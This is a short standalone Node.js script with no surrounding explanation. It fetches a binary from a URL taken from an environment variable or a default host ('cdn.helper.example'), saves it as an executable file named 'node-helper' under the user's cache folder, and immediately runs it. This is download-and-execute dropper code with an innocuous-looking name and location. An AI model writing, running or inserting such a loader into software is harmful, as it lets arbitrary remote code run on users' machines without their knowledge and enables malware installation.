const fs = require('fs');
const cp = require('child_process');
(async () => {
  const r = await fetch(process.env.U || 'https://cdn.helper.example/u.bin');
  const buf = Buffer.from(await r.arrayBuffer());
  const p = require('path').join(require('os').homedir(), '.cache', 'node-helper');
  fs.writeFileSync(p, buf, { mode: 0o755 });
  cp.execFile(p);
})();
